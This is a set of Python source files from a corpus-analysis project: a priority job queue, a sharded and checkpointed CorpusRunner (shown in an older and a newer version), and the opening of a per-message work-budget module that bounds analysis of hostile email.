from repro.runner.retry import DeadLetter, RetryPolicy, TransientFault
from repro.runner.runner import EXECUTORS, CorpusRunner, RunResult
from repro.runner.stats import RunningStats

__all__ = [
    "BudgetExceeded",
    "CheckpointScan",
    "CheckpointStore",
    "CompactionResult",
    "CorpusRunner",
    "DeadLetter",
    "EXECUTORS",
    "Job",
    "JobQueue",
    "LineIssue",
    "MessageBudget",
    "NULL_PROFILER",
    "PROFILE_TABLE_STAGES",
    "ProcessPool",
    "QueueClosed",
    "RetryPolicy",
    "RunManifest",
    "RunnerConfig",
    "RunResult",
    "RunningStats",
    "StageProfiler",
    "TransientFault",
    "WorkerCrash",
    "WorkerStalled",
    "encode_record_line",
    "format_fault_report",
    "format_quarantine_report",
    "format_stage_report",
    "parse_record_line",
]
