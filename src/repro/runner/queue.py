"""A bounded in-memory job queue with priorities and delayed re-delivery.

The runner's ingestion path: the producer enqueues one :class:`Job` per
corpus message; workers pull them off in ``(priority, enqueue order)``
order.  Retried jobs re-enter through :meth:`JobQueue.requeue` with a
``not-before`` time (the backoff deadline) and bypass the size bound —
a worker must never block on its own queue or the pool deadlocks.
"""

from __future__ import annotations

import heapq
import threading
import time
from dataclasses import dataclass, field


class QueueClosed(RuntimeError):
    """Raised when putting into a queue that was closed."""


@dataclass
class Job:
    """One unit of work: analyze one corpus message."""

    index: int
    payload: object = None
    priority: int = 0
    #: Completed delivery attempts (incremented by the runner on failure).
    attempts: int = 0
    #: Last exception repr, for the dead-letter record.
    last_error: str = ""
    #: Every attempt's exception repr, in delivery order.
    error_history: list = field(default_factory=list)
    #: Total backoff slept before re-deliveries of this job.
    backoff_slept: float = 0.0


@dataclass(order=True)
class _Entry:
    priority: int
    sequence: int
    job: Job = field(compare=False)


class JobQueue:
    """Priority FIFO with a size bound and a delayed-job shelf."""

    def __init__(self, maxsize: int = 0, clock=time.monotonic):
        self.maxsize = maxsize
        self._clock = clock
        self._lock = threading.Lock()
        self._not_empty = threading.Condition(self._lock)
        self._not_full = threading.Condition(self._lock)
        self._ready: list[_Entry] = []
        #: (not_before, sequence, job) — moved to ready once due.
        self._delayed: list[tuple[float, int, Job]] = []
        self._sequence = 0
        self._closed = False

    # ------------------------------------------------------------------
    def __len__(self) -> int:
        with self._lock:
            return len(self._ready) + len(self._delayed)

    @property
    def closed(self) -> bool:
        return self._closed

    # ------------------------------------------------------------------
    def put(self, job: Job, timeout: float | None = None) -> None:
        """Enqueue a job, blocking while the queue is at capacity."""
        with self._not_full:
            if self.maxsize > 0:
                deadline = None if timeout is None else self._clock() + timeout
                while not self._closed and len(self._ready) + len(self._delayed) >= self.maxsize:
                    remaining = None if deadline is None else deadline - self._clock()
                    if remaining is not None and remaining <= 0:
                        raise TimeoutError("queue full")
                    self._not_full.wait(remaining)
            if self._closed:
                raise QueueClosed("queue is closed")
            self._push(job)

    def requeue(self, job: Job, delay: float = 0.0) -> None:
        """Re-deliver a job after ``delay`` seconds (backoff path).

        Ignores the size bound: retries come from workers, and a worker
        blocking on its own queue would deadlock the pool.
        """
        with self._lock:
            if self._closed:
                raise QueueClosed("queue is closed")
            if delay <= 0:
                self._push(job)
            else:
                self._sequence += 1
                heapq.heappush(self._delayed, (self._clock() + delay, self._sequence, job))
                self._not_empty.notify()

    def _push(self, job: Job) -> None:
        self._sequence += 1
        heapq.heappush(self._ready, _Entry(job.priority, self._sequence, job))
        self._not_empty.notify()

    # ------------------------------------------------------------------
    def get(self, timeout: float | None = None) -> Job | None:
        """Dequeue the next eligible job.

        Blocks until a job is ready, its backoff deadline passes, or the
        queue is closed — then returns ``None`` (the worker-exit signal).
        """
        deadline = None if timeout is None else self._clock() + timeout
        with self._not_empty:
            while True:
                self._promote_due()
                if self._ready:
                    entry = heapq.heappop(self._ready)
                    self._not_full.notify()
                    return entry.job
                if self._closed:
                    return None
                if deadline is not None and self._clock() >= deadline:
                    return None
                wait = self._next_wait(deadline)
                if wait is not None and wait <= 0:
                    # A delayed job became due between the promotion scan
                    # and the wait computation: loop and promote it instead
                    # of timing out (returning None here would retire an
                    # idle worker while work is still pending).
                    continue
                self._not_empty.wait(wait)

    def _promote_due(self) -> None:
        now = self._clock()
        while self._delayed and self._delayed[0][0] <= now:
            _, _, job = heapq.heappop(self._delayed)
            self._push(job)

    def _next_wait(self, deadline: float | None) -> float | None:
        """Seconds to block before something could become eligible.

        ``None`` means "no wakeup scheduled": the worker blocks on the
        condition until a put/requeue/close notifies it — idle workers
        never poll.
        """
        now = self._clock()
        candidates = []
        if self._delayed:
            candidates.append(self._delayed[0][0] - now)
        if deadline is not None:
            candidates.append(deadline - now)
        if not candidates:
            return None
        return min(candidates)

    # ------------------------------------------------------------------
    def close(self, discard_pending: bool = False) -> None:
        """Stop accepting jobs and wake every waiter.

        With ``discard_pending`` the backlog is dropped too (the fatal
        shutdown path); otherwise workers drain what is already queued.
        """
        with self._lock:
            self._closed = True
            if discard_pending:
                self._ready.clear()
                self._delayed.clear()
            self._not_empty.notify_all()
            self._not_full.notify_all()
