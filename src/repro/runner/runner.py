"""The CorpusRunner facade: sharded, checkpointed corpus analysis.

Orchestrates the queue, the worker pool, the retry policy, the
checkpoint store, and the running statistics::

    runner = CorpusRunner(lambda wid: CrawlerBox.for_world(world), jobs=8)
    result = runner.run(corpus.messages)
    result.records   # sorted by message_index, identical to jobs=1

Two execution backends share this bookkeeping (see
:meth:`CorpusRunner.resolve_executor`):

- ``thread`` — N worker threads with private CrawlerBoxes.  Instant
  startup, no pickling requirements, works everywhere — but the
  CPU-bound analysis is serialized by the GIL.
- ``process`` — N worker *processes* (:mod:`repro.runner.executor`),
  each rebuilding its world from a picklable :class:`RunnerConfig` and
  streaming record dicts back to this parent.  Scales with cores.

Determinism: workers race for jobs, so *completion* order varies —
but every record depends only on ``(seed material, message_index)``
(see :meth:`repro.core.pipeline.CrawlerBox.message_seed`), and the
result list is sorted by index, so the records themselves are
byte-identical across worker counts, backends, and scheduling orders.

Failure routing: since the pipeline became a stage graph
(:mod:`repro.core.stages`), per-stage exceptions degrade the record's
``stage_status`` inside ``analyze`` instead of propagating here — the
retry/backoff/dead-letter machinery below only ever sees transient
infrastructure faults and messages that cannot enter the pipeline at
all.  For stage subsetting, pass the same selection to the thread
backend's ``box_factory`` and to :class:`RunnerConfig.stages` so both
backends build identical plans (the CLI's ``--stages`` does this).
"""

from __future__ import annotations

import random
import threading
from dataclasses import dataclass, field
from typing import Callable

from repro.core.artifacts import MessageRecord
from repro.runner.checkpoint import CheckpointStore, RunManifest
from repro.runner.executor import ProcessPool, RunnerConfig
from repro.runner.queue import Job, JobQueue, QueueClosed
from repro.runner.retry import DeadLetter, RetryPolicy
from repro.runner.stats import RunningStats
from repro.runner.workers import Worker, spawn_workers

#: fault_injector(message_index, prior_attempts) -> None; raising makes
#: the delivery attempt fail (tests inject TransientFault here).  Thread
#: backend only — the process backend injects faults via
#: ``RunnerConfig.fault`` since callables don't cross the boundary.
FaultInjector = Callable[[int, int], None]

#: progress(stats, completed, total) -> None.
ProgressCallback = Callable[[RunningStats, int, int], None]

EXECUTORS = ("auto", "thread", "process")


@dataclass
class RunResult:
    """What a finished (or dead-letter-degraded) run produced."""

    #: Completed records in corpus order (dead-lettered indices absent).
    records: list[MessageRecord]
    stats: RunningStats
    dead_letters: list[DeadLetter] = field(default_factory=list)
    #: Indices skipped because the checkpoint already had them.
    resumed_indices: tuple[int, ...] = ()
    #: Backend that actually ran ('thread' | 'process').
    executor: str = "thread"
    #: True when a drain request (SIGINT/SIGTERM) stopped the run with
    #: work still pending; the manifest holds ``status: interrupted``
    #: and a bare ``resume`` continues byte-identically.
    interrupted: bool = False


class CorpusRunner:
    """Run a message corpus through N sharded CrawlerBox workers."""

    def __init__(
        self,
        box_factory: Callable[[int], object] | None = None,
        jobs: int = 1,
        executor: str = "auto",
        config: RunnerConfig | None = None,
        retry_policy: RetryPolicy | None = None,
        checkpoint: CheckpointStore | None = None,
        queue_size: int | None = None,
        fault_injector: FaultInjector | None = None,
        progress: ProgressCallback | None = None,
        progress_every: int = 25,
        run_info: dict | None = None,
        profiler=None,
        batch_size: int | None = None,
        stall_timeout: float = 60.0,
    ):
        if jobs < 1:
            raise ValueError("jobs must be >= 1")
        if executor not in EXECUTORS:
            raise ValueError(f"executor must be one of {EXECUTORS}, got {executor!r}")
        if executor == "process" and config is None:
            raise ValueError("the process executor needs a picklable RunnerConfig")
        self.box_factory = box_factory
        self.jobs = jobs
        self.executor = executor
        self.config = config
        self.retry_policy = retry_policy or RetryPolicy()
        self.checkpoint = checkpoint
        self.queue_size = queue_size if queue_size is not None else max(4 * jobs, 64)
        self.fault_injector = fault_injector
        self.progress = progress
        self.progress_every = max(1, progress_every)
        #: Free-form identity recorded in the manifest (seed, scale, ...).
        self.run_info = dict(run_info or {})
        #: Shared StageProfiler for ``--profile`` (thread mode times the
        #: boxes built by ``box_factory``; process mode turns on
        #: per-worker profilers and merges their snapshots).
        self.profiler = profiler
        #: Indices per dispatch to a process worker (None = auto).
        self.batch_size = batch_size
        #: Seconds of total worker silence before the process pool reaps
        #: the stalled workers (their messages quarantine once retries
        #: exhaust); far above any single-message analysis time.
        self.stall_timeout = stall_timeout

        self._lock = threading.Lock()
        self._jitter_rng = random.Random(0xB0FF)
        #: Graceful-shutdown flag: once set, no new message starts;
        #: in-flight messages finish and checkpoint, then the run
        #: returns with ``interrupted=True``.
        self._drain = threading.Event()
        self._drained: list[int] = []
        self._workers: list[Worker] = []
        self._queue: JobQueue | None = None
        #: Live process-backend pool (drain wakeups go through it).
        self._process_pool = None

    # ------------------------------------------------------------------
    def resolve_executor(self) -> str:
        """The backend ``run()`` will use.

        ``auto`` picks ``process`` whenever the run is parallel
        (``jobs > 1``) and a picklable :class:`RunnerConfig` is
        available; otherwise the thread backend (the right call for
        ``jobs=1``, for live unpicklable worlds, and for
        spawn-unfriendly platforms).
        """
        if self.executor != "auto":
            return self.executor
        if self.jobs > 1 and self.config is not None:
            return "process"
        return "thread"

    # ------------------------------------------------------------------
    def request_drain(self) -> bool:
        """Ask the run to stop gracefully (signal-handler safe).

        Workers finish the message they are on (its record checkpoints
        normally) and no further message starts; :meth:`run` then
        returns with ``interrupted=True`` and an ``interrupted``
        manifest listing the drained indices.  Returns False if a drain
        was already in progress (the caller may then force-exit — the
        checkpoint is consistent at every line boundary).
        """
        first = not self._drain.is_set()
        self._drain.set()
        pool = self._process_pool
        if pool is not None and first:
            # Process backend: the parent blocks on the result queue
            # (no poll interval), so post an explicit wakeup for it to
            # notice the flag.
            pool.wake()
        queue = self._queue
        if queue is not None and first:
            # Thread backend: drop the backlog and wake every idle
            # worker; busy workers notice on their next get().
            queue.close(discard_pending=True)
            # _outstanding never reaches zero now, so _finish_one will
            # not fire _done; release run() once the workers park.
            threading.Thread(target=self._watch_drain, daemon=True).start()
        return first

    def _watch_drain(self) -> None:
        for worker in list(self._workers):
            worker.join()
        self._done.set()

    # ------------------------------------------------------------------
    def run(self, messages: list) -> RunResult:
        """Analyze ``messages``, resuming from the checkpoint if present."""
        total = len(messages)
        self._messages = messages
        self._records: dict[int, MessageRecord] = {}
        #: Worker-serialized records (process backend): index -> wire
        #: bytes, parsed into ``_records`` only once the run settles.
        self._wire: dict[int, bytes] = {}
        self._stats = RunningStats()
        self._dead: list[DeadLetter] = []
        self._fatal: BaseException | None = None
        self._done = threading.Event()

        resumed: set[int] = set()
        if self.checkpoint is not None:
            for record in self.checkpoint.load_records():
                if 0 <= record.message_index < total:
                    self._records[record.message_index] = record
                    self._stats.update(record)
                    resumed.add(record.message_index)

        pending = [index for index in range(total) if index not in resumed]
        self._outstanding = len(pending)
        self._total = total
        self._write_manifest(status="running")

        executor = self.resolve_executor()
        if pending:
            if executor == "process":
                self._run_process(pending)
            else:
                self._run_threads(pending, messages)
            if self._fatal is not None:
                self._write_manifest(status="failed")
                if self.checkpoint is not None:
                    self.checkpoint.close()
                raise self._fatal
        if self._wire:
            # Materialize worker-serialized records exactly once, after
            # the hot loop: the parent never parsed them in flight.
            from repro.core.export import record_from_wire

            for index, wire in self._wire.items():
                self._records.setdefault(index, record_from_wire(wire))
            self._wire.clear()

        if self.profiler is not None and executor == "thread":
            self.profiler.merge_into_stats(self._stats)
        interrupted = self._drain.is_set() and (
            len(self._records) + len(self._dead) < total
        )
        if self.checkpoint is not None:
            # Records reach stable storage before the manifest claims
            # the run complete — the ordering crash consistency needs.
            self.checkpoint.sync()
        self._write_manifest(status="interrupted" if interrupted else "complete")
        if self.checkpoint is not None:
            self.checkpoint.close()
        records = [self._records[index] for index in sorted(self._records)]
        return RunResult(
            records=records,
            stats=self._stats,
            dead_letters=sorted(self._dead, key=lambda letter: letter.index),
            resumed_indices=tuple(sorted(resumed)),
            executor=executor,
            interrupted=interrupted,
        )

    # ------------------------------------------------------------------
    # Backends
    # ------------------------------------------------------------------
    def _run_threads(self, pending: list[int], messages: list) -> None:
        if self.box_factory is None:
            raise ValueError("the thread executor needs a box_factory")
        self._queue = JobQueue(maxsize=self.queue_size)
        workers = spawn_workers(self.jobs, self._queue, self.box_factory, self._handle)
        self._workers = workers
        if self._drain.is_set():
            # Drain requested before the queue existed: park immediately.
            self._queue.close(discard_pending=True)
            threading.Thread(target=self._watch_drain, daemon=True).start()
        try:
            for index in pending:
                self._queue.put(Job(index=index, payload=messages[index]))
        except QueueClosed:
            pass  # a fatal failure or drain tore the run down mid-enqueue
        self._done.wait()
        for worker in workers:
            worker.join()

    def _run_process(self, pending: list[int]) -> None:
        pool = ProcessPool(self, self.config, jobs=self.jobs, batch_size=self.batch_size)
        pool.run(pending)

    # ------------------------------------------------------------------
    # Shared bookkeeping (thread-safe; called from worker threads and
    # from the process pool's event loop)
    # ------------------------------------------------------------------
    def _record_success(
        self, index: int, record: MessageRecord, wire: bytes | None = None
    ) -> None:
        with self._lock:
            if index in self._records or index in self._wire:
                return  # duplicate delivery (crash-retry race): first wins
            self._records[index] = record
            self._stats.update(record)
            completed, report, manifest_due = self._progress_bookkeeping(index)
        if self.checkpoint is not None:
            # Outside the runner lock: the store serializes appends with
            # its own lock, so success bookkeeping on other workers is
            # not blocked behind this one's disk write.  Delivery is
            # exactly-once per index on every backend, so the dup check
            # above fully guards the append.
            try:
                if wire is not None:
                    self.checkpoint.append_wire(wire)
                else:
                    self.checkpoint.append(record)
            except OSError as error:
                self._abort_on_storage(error)
                return
        if report:
            self.progress(self._stats, completed, self._total)
        if manifest_due:
            self._write_manifest(status="running")

    def _record_wire(self, index: int, wire: bytes) -> bool:
        """Land one worker-serialized record: append-bytes-and-ack.

        The process backend's hot path — no JSON parse, no dict
        rebuild, no re-serialization.  Stats arrive separately via
        :meth:`_absorb_stats` (frame shards).  Returns False on a
        duplicate delivery (crash-retry race: first wins).
        """
        with self._lock:
            if index in self._records or index in self._wire:
                return False
            self._wire[index] = wire
            completed, report, manifest_due = self._progress_bookkeeping(index)
        if self.checkpoint is not None:
            try:
                self.checkpoint.append_wire(wire)
            except OSError as error:
                self._abort_on_storage(error)
                return False
        if report:
            self.progress(self._stats, completed, self._total)
        if manifest_due:
            self._write_manifest(status="running")
        return True

    def _progress_bookkeeping(self, index: int) -> tuple[int, bool, bool]:
        """Shared post-success accounting (caller holds ``_lock``)."""
        if self._drain.is_set():
            # In-flight work a graceful shutdown waited for; the
            # interrupted manifest lists these for the operator.
            self._drained.append(index)
        completed = len(self._records) + len(self._wire)
        report = self.progress is not None and (
            completed % self.progress_every == 0 or completed == self._total
        )
        manifest_due = (
            self.checkpoint is not None
            and completed % self.progress_every == 0
            and completed < self._total
        )
        return completed, report, manifest_due

    def _absorb_stats(self, shard: RunningStats) -> None:
        """Fold one worker frame's stats shard into the run totals."""
        with self._lock:
            self._stats.absorb(shard)

    def _update_stats(self, record: MessageRecord) -> None:
        """Per-record fallback when a frame's shard cannot be absorbed
        wholesale (duplicate delivery inside the frame)."""
        with self._lock:
            self._stats.update(record)

    def _record_dead(
        self,
        index: int,
        attempts: int,
        error: str,
        history: tuple[str, ...] = (),
        backoff: float = 0.0,
    ) -> None:
        with self._lock:
            self._dead.append(
                DeadLetter(index, attempts, error, history=history, backoff_seconds=backoff)
            )
            self._stats.dead_lettered += 1

    def _quarantine_stalled(self, index: int, attempts: int, history: tuple[str, ...]) -> None:
        """Checkpoint a quarantined record for a message whose worker
        repeatedly hard-wedged (reaped by the process pool's stall
        watchdog after exhausting its retries).

        The message never produced analysis output, so the record is
        built parent-side from corpus metadata: category
        ``quarantined``, every stage ``skipped``, and a
        :class:`~repro.mail.guard.QuarantineReport` whose reason names
        the watchdog — machine-readable, like a guard rejection, and
        never an infinite retry loop or an unexplained dead letter.
        """
        from repro.core.outcomes import MessageCategory
        from repro.core.stages import registered_stage_names
        from repro.core.stages.base import StageStatus
        from repro.mail.guard import GuardViolation, QuarantineReport, triage_headers

        message = self._messages[index]
        record = MessageRecord(
            message_index=index,
            delivered_at=message.delivered_at,
            recipient=message.recipient,
            sender_domain=message.sender_domain,
            ground_truth=dict(message.ground_truth),
        )
        record.category = MessageCategory.QUARANTINED
        record.stage_status = {
            name: StageStatus.SKIPPED for name in registered_stage_names()
        }
        record.quarantine = QuarantineReport(
            reason=f"worker-stall: analysis wedged {attempts} worker(s); "
            f"reaped after {self.stall_timeout:g}s of silence each",
            violations=(
                GuardViolation(
                    "stall-timeout", attempts, self.retry_policy.max_attempts
                ),
            ),
            headers=triage_headers(message),
        )
        self._record_success(index, record)

    def _note_retry(self) -> None:
        with self._lock:
            self._stats.retried += 1

    def _abort_on_storage(self, error: OSError) -> None:
        """A durable append failed past its bounded retry: the disk is
        persistently refusing writes, so continuing would only analyze
        messages whose records cannot land.  Abort cleanly — the fatal
        error carries the OS diagnosis, every record already appended
        is durable, and a later ``resume`` continues from them."""
        self._set_fatal(error)
        queue = self._queue
        if queue is not None:
            queue.close(discard_pending=True)
        self._done.set()
        # The process backend's event loop re-checks ``_fatal`` after
        # this (the append happens on the event-loop thread), so no
        # extra wakeup is needed there.

    def _set_fatal(self, error: BaseException) -> None:
        with self._lock:
            if self._fatal is None:
                self._fatal = error

    def _merge_stage_snapshot(self, snapshot: dict) -> None:
        with self._lock:
            for name, entry in snapshot.items():
                self._stats.stage_calls[name] += int(entry["calls"])
                self._stats.stage_seconds[name] += float(entry["seconds"])

    # ------------------------------------------------------------------
    # Worker-side handling (runs on worker threads; must never raise)
    # ------------------------------------------------------------------
    def _handle(self, worker: Worker, job: Job) -> None:
        try:
            if self.fault_injector is not None:
                self.fault_injector(job.index, job.attempts)
            if self.checkpoint is not None:
                # Render the checkpoint wire form on the worker thread —
                # same serialization instant the process backend uses —
                # so the shared success path appends bytes instead of
                # re-serializing under contention.
                record, wire = worker.box.analyze_to_wire(
                    job.payload, message_index=job.index
                )
            else:
                record = worker.box.analyze(job.payload, message_index=job.index)
                wire = None
        except BaseException as error:  # noqa: BLE001 - routed to retry policy
            self._on_failure(job, error)
        else:
            self._on_success(job, record, wire)

    def _on_success(self, job: Job, record: MessageRecord, wire: bytes | None = None) -> None:
        self._record_success(job.index, record, wire)
        self._finish_one()

    def _on_failure(self, job: Job, error: BaseException) -> None:
        job.attempts += 1
        job.last_error = repr(error)
        job.error_history.append(job.last_error)
        policy = self.retry_policy
        if not policy.is_transient(error):
            # A pipeline bug, not flaky infrastructure: abort the run.
            self._set_fatal(error)
            self._queue.close(discard_pending=True)
            self._done.set()
            return
        if job.attempts < policy.max_attempts:
            with self._lock:
                self._stats.retried += 1
                delay = policy.backoff_delay(job.attempts, self._jitter_rng)
            job.backoff_slept += delay
            try:
                self._queue.requeue(job, delay)
            except QueueClosed:
                pass  # fatal shutdown raced us; the run is aborting anyway
            return
        self._record_dead(
            job.index,
            job.attempts,
            job.last_error,
            history=tuple(job.error_history),
            backoff=job.backoff_slept,
        )
        self._finish_one()

    def _finish_one(self) -> None:
        with self._lock:
            self._outstanding -= 1
            finished = self._outstanding == 0
        if finished:
            self._queue.close()
            self._done.set()

    # ------------------------------------------------------------------
    def _write_manifest(self, status: str) -> None:
        if self.checkpoint is None:
            return
        budget = self.run_info.get("budget")
        with self._lock:
            manifest = RunManifest(
                seed=int(self.run_info.get("seed", 0)),
                scale=float(self.run_info.get("scale", 0.0)),
                jobs=self.jobs,
                total_messages=self._total,
                completed=len(self._records) + len(self._wire),
                status=status,
                dead_letters=[letter.as_dict() for letter in self._dead],
                stats=self._stats.as_dict(),
                faults=str(self.run_info.get("faults", "off")),
                fault_seed=int(self.run_info.get("fault_seed", 0)),
                drained=sorted(self._drained) if status == "interrupted" else [],
                budget=int(budget) if budget is not None else None,
                guard_limits=[
                    [str(key), int(value)]
                    for key, value in self.run_info.get("guard_limits") or ()
                ] or None,
                storage_faults=str(self.run_info.get("storage_faults", "off")),
                storage_fault_seed=int(self.run_info.get("storage_fault_seed", 0)),
            )
        try:
            self.checkpoint.write_manifest(manifest)
        except OSError:
            # Mid-run progress snapshots and the post-fatal status are
            # best-effort: the records file is the source of truth, and
            # a disk refusing the manifest must not mask the run's own
            # outcome.  Terminal complete/interrupted writes propagate.
            if status not in ("running", "failed"):
                raise
