"""The CorpusRunner facade: sharded, checkpointed corpus analysis.

Orchestrates the queue, the worker pool, the retry policy, the
checkpoint store, and the running statistics::

    runner = CorpusRunner(lambda wid: CrawlerBox.for_world(world), jobs=8)
    result = runner.run(corpus.messages)
    result.records   # sorted by message_index, identical to jobs=1

Determinism: workers race for jobs, so *completion* order varies —
but every record depends only on ``(seed material, message_index)``
(see :meth:`repro.core.pipeline.CrawlerBox.message_seed`), and the
result list is sorted by index, so the records themselves are
byte-identical across worker counts and scheduling orders.
"""

from __future__ import annotations

import random
import threading
from dataclasses import dataclass, field
from typing import Callable

from repro.core.artifacts import MessageRecord
from repro.runner.checkpoint import CheckpointStore, RunManifest
from repro.runner.queue import Job, JobQueue, QueueClosed
from repro.runner.retry import DeadLetter, RetryPolicy
from repro.runner.stats import RunningStats
from repro.runner.workers import Worker, spawn_workers

#: fault_injector(message_index, prior_attempts) -> None; raising makes
#: the delivery attempt fail (tests inject TransientFault here).
FaultInjector = Callable[[int, int], None]

#: progress(stats, completed, total) -> None.
ProgressCallback = Callable[[RunningStats, int, int], None]


@dataclass
class RunResult:
    """What a finished (or dead-letter-degraded) run produced."""

    #: Completed records in corpus order (dead-lettered indices absent).
    records: list[MessageRecord]
    stats: RunningStats
    dead_letters: list[DeadLetter] = field(default_factory=list)
    #: Indices skipped because the checkpoint already had them.
    resumed_indices: tuple[int, ...] = ()


class CorpusRunner:
    """Run a message corpus through N sharded CrawlerBox workers."""

    def __init__(
        self,
        box_factory: Callable[[int], object],
        jobs: int = 1,
        retry_policy: RetryPolicy | None = None,
        checkpoint: CheckpointStore | None = None,
        queue_size: int | None = None,
        fault_injector: FaultInjector | None = None,
        progress: ProgressCallback | None = None,
        progress_every: int = 25,
        run_info: dict | None = None,
    ):
        if jobs < 1:
            raise ValueError("jobs must be >= 1")
        self.box_factory = box_factory
        self.jobs = jobs
        self.retry_policy = retry_policy or RetryPolicy()
        self.checkpoint = checkpoint
        self.queue_size = queue_size if queue_size is not None else max(4 * jobs, 64)
        self.fault_injector = fault_injector
        self.progress = progress
        self.progress_every = max(1, progress_every)
        #: Free-form identity recorded in the manifest (seed, scale, ...).
        self.run_info = dict(run_info or {})

        self._lock = threading.Lock()
        self._jitter_rng = random.Random(0xB0FF)

    # ------------------------------------------------------------------
    def run(self, messages: list) -> RunResult:
        """Analyze ``messages``, resuming from the checkpoint if present."""
        total = len(messages)
        self._records: dict[int, MessageRecord] = {}
        self._stats = RunningStats()
        self._dead: list[DeadLetter] = []
        self._fatal: BaseException | None = None
        self._done = threading.Event()

        resumed: set[int] = set()
        if self.checkpoint is not None:
            for record in self.checkpoint.load_records():
                if 0 <= record.message_index < total:
                    self._records[record.message_index] = record
                    self._stats.update(record)
                    resumed.add(record.message_index)

        pending = [index for index in range(total) if index not in resumed]
        self._outstanding = len(pending)
        self._total = total
        self._write_manifest(status="running")

        if pending:
            self._queue = JobQueue(maxsize=self.queue_size)
            workers = spawn_workers(self.jobs, self._queue, self.box_factory, self._handle)
            try:
                for index in pending:
                    self._queue.put(Job(index=index, payload=messages[index]))
            except QueueClosed:
                pass  # a fatal failure tore the run down mid-enqueue
            self._done.wait()
            for worker in workers:
                worker.join()
            if self._fatal is not None:
                self._write_manifest(status="failed")
                if self.checkpoint is not None:
                    self.checkpoint.close()
                raise self._fatal

        self._write_manifest(status="complete")
        if self.checkpoint is not None:
            self.checkpoint.close()
        records = [self._records[index] for index in sorted(self._records)]
        return RunResult(
            records=records,
            stats=self._stats,
            dead_letters=sorted(self._dead, key=lambda letter: letter.index),
            resumed_indices=tuple(sorted(resumed)),
        )

    # ------------------------------------------------------------------
    # Worker-side handling (runs on worker threads; must never raise)
    # ------------------------------------------------------------------
    def _handle(self, worker: Worker, job: Job) -> None:
        try:
            if self.fault_injector is not None:
                self.fault_injector(job.index, job.attempts)
            record = worker.box.analyze(job.payload, message_index=job.index)
        except BaseException as error:  # noqa: BLE001 - routed to retry policy
            self._on_failure(job, error)
        else:
            self._on_success(job, record)

    def _on_success(self, job: Job, record: MessageRecord) -> None:
        if self.checkpoint is not None:
            self.checkpoint.append(record)
        with self._lock:
            self._records[job.index] = record
            self._stats.update(record)
            completed = len(self._records)
            report = self.progress is not None and (
                completed % self.progress_every == 0 or completed == self._total
            )
        if report:
            self.progress(self._stats, completed, self._total)
        self._finish_one()

    def _on_failure(self, job: Job, error: BaseException) -> None:
        job.attempts += 1
        job.last_error = repr(error)
        policy = self.retry_policy
        if not policy.is_transient(error):
            # A pipeline bug, not flaky infrastructure: abort the run.
            with self._lock:
                if self._fatal is None:
                    self._fatal = error
            self._queue.close(discard_pending=True)
            self._done.set()
            return
        if job.attempts < policy.max_attempts:
            with self._lock:
                self._stats.retried += 1
                delay = policy.backoff_delay(job.attempts, self._jitter_rng)
            try:
                self._queue.requeue(job, delay)
            except QueueClosed:
                pass  # fatal shutdown raced us; the run is aborting anyway
            return
        with self._lock:
            self._dead.append(DeadLetter(job.index, job.attempts, job.last_error))
            self._stats.dead_lettered += 1
        self._finish_one()

    def _finish_one(self) -> None:
        with self._lock:
            self._outstanding -= 1
            finished = self._outstanding == 0
            completed = len(self._records)
            checkpoint_due = (
                self.checkpoint is not None and completed % self.progress_every == 0
            )
        if checkpoint_due and not finished:
            self._write_manifest(status="running")
        if finished:
            self._queue.close()
            self._done.set()

    # ------------------------------------------------------------------
    def _write_manifest(self, status: str) -> None:
        if self.checkpoint is None:
            return
        with self._lock:
            manifest = RunManifest(
                seed=int(self.run_info.get("seed", 0)),
                scale=float(self.run_info.get("scale", 0.0)),
                jobs=self.jobs,
                total_messages=self._total,
                completed=len(self._records),
                status=status,
                dead_letters=[letter.as_dict() for letter in self._dead],
                stats=self._stats.as_dict(),
            )
        self.checkpoint.write_manifest(manifest)
