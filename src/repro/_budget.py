"""Cooperative per-message resource budgets.

A hostile message can be *well-formed* yet unbounded in the work it
triggers — scripts that spin the JS interpreter, images that explode
the OCR search, crawl chains that never converge.  The quarantine guard
(:mod:`repro.mail.guard`) rejects structurally pathological inputs
before analysis; this module bounds the work a message may consume
*during* analysis.

Design:

- A :class:`MessageBudget` counts abstract work units (one unit is
  roughly one JS interpreter step).  Hot loops charge it at coarse
  boundaries — the JS interpreter every 1024 steps, the OCR decoder per
  line band, the crawl stage per URL hop — so the per-iteration cost is
  an attribute check, not a function call.
- Exhaustion raises :class:`BudgetExceeded`, a plain ``Exception`` by
  design: it is neither a :class:`~repro.js.interp.JSError` (the page
  session would swallow it into ``script_errors``) nor a
  :class:`~repro.runner.retry.TransientFault` (the runner would retry a
  message that is deterministically expensive).  It therefore escapes
  to the stage plan's isolation boundary, which marks the running stage
  ``failed`` with a machine-readable reason and degrades its
  dependents — the worker survives and the record is kept.
- The active budget travels via a thread-local instead of threading a
  parameter through every hot-path signature; ``jobs=N`` thread workers
  each see only their own message's budget.

Determinism: work units are a pure function of the message being
analyzed, so a work-unit limit degrades the *same* stages on every
backend and worker count.  The optional wall-clock ``deadline_seconds``
is **off by default** because it would break byte-identity across
machines; it exists as an operator opt-in backstop for workloads where
determinism matters less than liveness.

This module is intentionally stdlib-only and lives at the package top
level: the charge sites (``repro.js.interp``, ``repro.imaging.ocr``)
are leaf modules imported while ``repro.runner`` is still initializing,
so importing a runner submodule from them would cycle.  The public
surface is re-exported through :mod:`repro.runner`.
"""

from __future__ import annotations

import threading
import time
from contextlib import contextmanager

#: Default work-unit limit per message.  Calibrated-corpus messages
#: consume well under 150k units end to end (crawl hops dominate), and
#: a *single* runaway script is already stopped by the JS interpreter's
#: own 2M step limit (swallowed into ``script_errors``, page handled
#: gracefully) — so the default sits at four maxed-out scripts' worth:
#: it only trips on cumulative multi-script/multi-page abuse the
#: per-script limit cannot see, while leaving clean messages ~300x of
#: headroom.  Tighten per run with ``--budget``.
DEFAULT_WORK_LIMIT = 8_000_000

#: Units charged per crawled URL (a crawl hop does orders of magnitude
#: more host work than a JS step; this keeps the unit scale honest).
CRAWL_HOP_UNITS = 10_000

#: Units charged per OCR line-band decode at one alignment sweep.
OCR_BAND_UNITS = 2_000


class BudgetExceeded(Exception):
    """The per-message budget ran dry.

    Deliberately a plain ``Exception``: stage failure isolation catches
    it (degrading the stage to ``failed``), the retry policy does not.
    """

    def __init__(self, kind: str, spent: int, limit: float):
        super().__init__(
            f"message budget exhausted in {kind}: "
            f"{spent} work units spent (limit {limit:g})"
        )
        self.kind = kind
        self.spent = spent
        self.limit = limit


class MessageBudget:
    """A cooperative work-unit meter for one message's analysis."""

    __slots__ = ("work_limit", "deadline_seconds", "spent", "spent_by_kind", "_started", "_clock")

    def __init__(
